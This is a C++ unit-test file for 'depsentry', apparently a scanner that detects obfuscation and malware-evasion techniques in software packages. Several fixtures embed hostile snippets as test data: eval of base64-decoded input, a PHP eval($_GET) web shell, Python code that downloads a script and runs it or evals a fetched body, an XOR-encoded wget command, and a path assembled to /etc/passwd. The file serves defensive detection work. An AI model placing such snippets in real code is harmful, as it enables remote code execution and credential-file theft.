#include <gtest/gtest.h>

#include <random>

#include "depsentry/evasion.hpp"
#include "support/oracles.hpp"
#include "support/samples.hpp"
#include "support/scan.hpp"

namespace depsentry {
namespace {

using testing::ids_of;
using testing::only;
using testing::scan_files;

const Thresholds kT{};

std::vector<Finding> scan_js(const std::string& src) {
  return scan_files({{"package.json", R"({"name":"a","main":"index.js"})"}, {"index.js", "module.exports = 1;\n"},
                     {"lib/x.js", src}});
}

std::vector<Finding> scan_py(const std::string& src) {
  return scan_files({{"setup.py", "from setuptools import setup\nsetup(name='a')\n"}, {"pkg/x.py", src}});
}

std::vector<Finding> scan_php(const std::string& src) {
  return scan_files({{"composer.json", R"({"name":"a/b"})"}, {"src/x.php", src}});
}

std::string property(const Finding& f, std::string_view key) {
  for (const auto& [k, v] : f.properties)
    if (k == key) return v;
  return {};
}

TEST(Entropy, MatchesBruteForce) {
  for (std::string s : {"", "a", "ab", "aaaaaaaa", "hello world", "\x01\x02\x03\xff"})
    EXPECT_NEAR(shannon_entropy(s), testing::oracle_entropy(s), 1e-12) << s;
  EXPECT_DOUBLE_EQ(shannon_entropy("aaaaaaaaaaaaaaaaaaaaaaaa"), 0.0);
  EXPECT_DOUBLE_EQ(shannon_entropy("abcd"), 2.0);
}

TEST(Decoding, Base64AndHex) {
  EXPECT_EQ(decode_base64(testing::oracle_base64("hello world!!!")), "hello world!!!");
  EXPECT_EQ(decode_base64("aGVs\nbG8="), "hello");
  EXPECT_FALSE(decode_base64("aGVsbG8"));
  EXPECT_FALSE(decode_base64("a===").has_value() && !decode_base64("a===")->empty());
  EXPECT_EQ(decode_hex(testing::oracle_hex("hi there")), "hi there");
  EXPECT_FALSE(decode_hex("abc"));
  EXPECT_FALSE(decode_hex("zz"));
}

TEST(ClassifyStrings, Base64PhraseIsEncoded) {
  const std::string lit = testing::oracle_base64("hello world!!!");
  ASSERT_EQ(lit, "aGVsbG8gd29ybGQhISE=");
  const auto c = classify_literal(lit, kT);
  EXPECT_TRUE(c.encoded);
  EXPECT_EQ(c.decoded_preview, "hello world!!!");
  const auto f = only(scan_js("var s = \"" + lit + "\";\n"), TechniqueId::EvDoEnc);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(property(f[0], "decoded_preview"), "hello world!!!");
}

TEST(ClassifyStrings, SingleSymbolStringIsClean) {
  const auto c = classify_literal("aaaaaaaaaaaaaaaaaaaaaaaa", kT);
  EXPECT_EQ(c.entropy_bits_per_byte, 0.0);
  EXPECT_FALSE(c.encoded);
  EXPECT_FALSE(c.opaque);
  EXPECT_TRUE(scan_js("var s = \"aaaaaaaaaaaaaaaaaaaaaaaa\";\n").empty());
}

TEST(ClassifyStrings, RandomHexFollowsOracle) {
  std::mt19937 rng(42);
  for (int round = 0; round < 20; ++round) {
    std::string bytes;
    for (int i = 0; i < 64; ++i) bytes.push_back(static_cast<char>(rng() & 0xff));
    const std::string lit = testing::oracle_hex(bytes);
    const bool printable = testing::oracle_printable_fraction(bytes) >= kT.printable_fraction_min;
    const auto want = printable ? TechniqueId::EvDoEnc
                      : testing::oracle_entropy(bytes) >= kT.entropy_min ? TechniqueId::EvDoCry
                                                                          : TechniqueId::I1;
    const auto c = classify_literal(lit, kT);
    EXPECT_EQ(c.encoded, want == TechniqueId::EvDoEnc);
    EXPECT_EQ(c.opaque, want == TechniqueId::EvDoCry);
  }
}

TEST(PackAndExec, PhpEvalOfDecode) {
  const auto f = only(scan_php("<?php\neval(base64_decode($x));\n"), TechniqueId::EvDyPack);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].confidence, Confidence::Strong);
}

TEST(PackAndExec, DecodeAloneIsNotPack) {
  EXPECT_TRUE(only(scan_php("<?php\n$y = base64_decode($x);\necho $y;\n"), TechniqueId::EvDyPack).empty());
}

std::string decompress_then_exec(int gap) {
  std::string src = "import zlib\npayload = zlib.decompress(blob)\n";
  for (int i = 1; i < gap; ++i) src += "pass\n";
  return src + "exec(code)\n";
}

TEST(PackAndExec, ProximityWindow) {
  const auto near = only(scan_py(decompress_then_exec(30)), TechniqueId::EvDyPack);
  ASSERT_EQ(near.size(), 1u);
  EXPECT_EQ(near[0].confidence, Confidence::Moderate);
  EXPECT_EQ(near[0].location.line_start, 32u);
  EXPECT_EQ(only(scan_py(decompress_then_exec(40)), TechniqueId::EvDyPack).size(), 1u);
  EXPECT_TRUE(only(scan_py(decompress_then_exec(41)), TechniqueId::EvDyPack).empty());
}

TEST(PackAndExec, EmbeddedCompressedData) {
  const auto f = scan_py("import zlib, base64\ndata = zlib.decompress(base64.b64decode(blob))\n");
  EXPECT_EQ(only(f, TechniqueId::EvDoCmp).size(), 1u);
}

TEST(ConcatAssembly, UrlFromPieces) {
  const auto f = only(scan_js("var u = \"ht\"+\"tp\"+\"://e\"+\"vil\";\n"), TechniqueId::EvDoSplit);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_NE(f[0].message.find("http://evil"), std::string::npos);
}

TEST(ConcatAssembly, TwoPiecesAreFine) {
  EXPECT_TRUE(only(scan_js("var s = \"foo\"+\"bar\";\n"), TechniqueId::EvDoSplit).empty());
}

TEST(ConcatAssembly, AccumulationAcrossStatements) {
  // "/etc" + "/pas" + "sw" + "d" joined by hand: "/etc/passwd".
  const auto f = only(scan_py("p = '/'\np += 'etc'\np += '/pas'\np += 'sw'\np += 'd'\nopen(p)\n"), TechniqueId::EvDoSplit);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_NE(f[0].message.find("/etc/passwd"), std::string::npos);
}

std::string js_array(std::string_view bytes) {
  std::string out = "var k = [";
  for (std::size_t i = 0; i < bytes.size(); ++i)
    out += (i ? "," : "") + std::to_string(static_cast<unsigned char>(bytes[i]));
  return out + "];\n";
}

TEST(BinaryArray, PlainUrlBytes) {
  const std::string url = "http://example.invalid/payload";
  const auto f = only(scan_js(js_array(url)), TechniqueId::EvDoBin);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(property(f[0], "decoded_preview"), url);
  EXPECT_EQ(f[0].confidence, Confidence::Moderate);
}

TEST(BinaryArray, ShortArrayIsIgnored) {
  EXPECT_TRUE(only(scan_js("var k = [1,2,3];\n"), TechniqueId::EvDoBin).empty());
}

TEST(BinaryArray, XorKeyMatchesBruteForce) {
  const std::string plain = "bash -c wget example.invalid";
  std::string encoded = plain;
  for (auto& c : encoded) c = static_cast<char>(c ^ 0x20);
  // Oracle: first key whose decoding is mostly printable and names a sensitive word.
  const auto& s = Config::defaults().sensitive();
  int want = -1;
  for (int k = 1; k < 256 && want < 0; ++k) {
    std::string x = encoded;
    for (auto& c : x) c = static_cast<char>(static_cast<unsigned char>(c) ^ k);
    if (testing::oracle_printable_fraction(x) < kT.printable_fraction_min) continue;
    for (const auto* list : {&s.shell_words, &s.url_prefixes, &s.credential_paths})
      for (const auto& w : *list)
        if (w.size() >= kT.xor_word_min_length && x.find(w) != std::string::npos) want = k;
  }
  ASSERT_GT(want, 0);
  const auto f = only(scan_js(js_array(encoded)), TechniqueId::EvDoBin);
  ASSERT_EQ(f.size(), 1u);
  char buf[8];
  std::snprintf(buf, sizeof buf, "0x%02x", want);
  EXPECT_EQ(property(f[0], "xor_key"), buf);
  EXPECT_EQ(f[0].confidence, Confidence::Weak);
}

TEST(IdentifierObfuscation, RenamedSetupPy) {
  const auto f = only(scan_files({{"setup.py", std::string(testing::kRenamedSetupPy)}}), TechniqueId::EvStId);
  EXPECT_EQ(f.size(), 1u);
}

TEST(IdentifierObfuscation, IdiomaticAndMinifiedAreClean) {
  std::string idiomatic = "def parse_config(path):\n    retry_count = 3\n    timeout_seconds = 10\n";
  for (int i = 0; i < 12; ++i)
    idiomatic += "    setting_" + std::to_string(i) + "_value = retry_count + timeout_seconds\n";
  idiomatic += "    return retry_count\n";
  EXPECT_TRUE(only(scan_py(idiomatic), TechniqueId::EvStId).empty());
  std::string minified;
  for (char c = 'a'; c <= 'z'; ++c) minified += std::string("var ") + c + "=" + c + "+1;";
  EXPECT_TRUE(only(scan_js(minified + "\n"), TechniqueId::EvStId).empty());
}

TEST(IdentifierObfuscation, RenamedShape) {
  EXPECT_TRUE(looks_renamed("l1l1l_cringe_", kT));
  EXPECT_TRUE(looks_renamed("lllIII", kT));
  EXPECT_FALSE(looks_renamed("parse_config", kT));
  EXPECT_FALSE(looks_renamed("abc", kT));
}

TEST(VisualDeception, HiddenCodeAfterSpaces) {
  const std::string line = "x = 1" + std::string(600, ' ') + "import os\n";
  const auto f = detect_visual_deception("a.py", line, kT);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_NE(f[0].evidence.find("import os"), std::string::npos);
}

TEST(VisualDeception, BoundaryAndNormalIndentation) {
  EXPECT_EQ(detect_visual_deception("a.py", "x = 1" + std::string(40, ' ') + "y = 2\n", kT).size(), 1u);
  EXPECT_TRUE(detect_visual_deception("a.py", "x = 1" + std::string(39, ' ') + "y = 2\n", kT).empty());
  EXPECT_TRUE(detect_visual_deception("a.py", "def f():\n" + std::string(12, ' ') + "return 1\n", kT).empty());
}

TEST(UnicodeTricks, BidiOverrideIsCritical) {
  const std::string src = "var a = \"abc\xE2\x80\xAE" "cba\";\n";
  const auto f = detect_unicode_tricks("a.js", src, nullptr);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].severity, Severity::Critical);
}

TEST(UnicodeTricks, CyrillicHomoglyphIdentifier) {
  const std::string src = "var p\xD0\xB0nel = 1;\n";
  const auto f = only(scan_js(src), TechniqueId::EvStUni);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].confidence, Confidence::Moderate);
}

TEST(UnicodeTricks, AsciiIsClean) {
  EXPECT_TRUE(detect_unicode_tricks("a.js", "var panel = 1;\n", nullptr).empty());
}

TEST(DynamicModification, PrintPatch) {
  const auto f = only(scan_py(std::string(testing::kPrintPatch)), TechniqueId::EvDyMod);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].confidence, Confidence::Strong);
  EXPECT_EQ(f[0].evidence, "builtins.print = hacked_print");
}

TEST(DynamicModification, ConsoleLogOverride) {
  EXPECT_EQ(only(scan_js("console.log = function(){ };\n"), TechniqueId::EvDyMod).size(), 1u);
}

TEST(DynamicModification, OwnFunctionReassignmentIsClean) {
  EXPECT_TRUE(only(scan_js("function helper() {}\nhelper = function() {};\n"), TechniqueId::EvDyMod).empty());
}

TEST(SecondStage, FetchWriteSpawn) {
  const auto f = only(scan_py(R"(import urllib.request, subprocess
data = urllib.request.urlopen("https://example.invalid/p").read()
open("payload.sh", "wb").write(data)
subprocess.call(["sh", "payload.sh"])
)"),
                      TechniqueId::EvStStage2);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].confidence, Confidence::Strong);
}

TEST(SecondStage, VersionCheckIsClean) {
  EXPECT_TRUE(only(scan_py(R"(import requests
def latest():
    return requests.get("https://example.invalid/version").text.strip()
)"),
                   TechniqueId::EvStStage2)
                  .empty());
}

TEST(SecondStage, GetThenEval) {
  EXPECT_EQ(only(scan_py(R"(import requests
body = requests.get("https://example.invalid/x").text
eval(body)
)"),
                 TechniqueId::EvStStage2)
                .size(),
            1u);
}

TEST(Census, ForeignLanguageFile) {
  const auto f = scan_files({{"setup.py", "from setuptools import setup\nsetup(name='a')\n"},
                             {"pkg/helper.php", "<?php eval($_GET['x']);\n"}});
  const auto poly = only(f, TechniqueId::EvStPoly);
  ASSERT_EQ(poly.size(), 1u);
  EXPECT_EQ(poly[0].confidence, Confidence::Weak);
}

TEST(Census, SilencedDangerousCall) {
  EXPECT_EQ(only(scan_py("import os\ntry:\n    os.system(x)\nexcept:\n    pass\n"), TechniqueId::EvWs).size(), 1u);
}

TEST(Census, CleanPackage) {
  EXPECT_TRUE(scan_files({{"setup.py", "from setuptools import setup\nsetup(name='a')\n"},
                          {"README.md", "# a\n"},
                          {"pkg/core.py", "def add(a, b):\n    return a + b\n"}})
                  .empty());
}

}  // namespace
}  // namespace depsentry
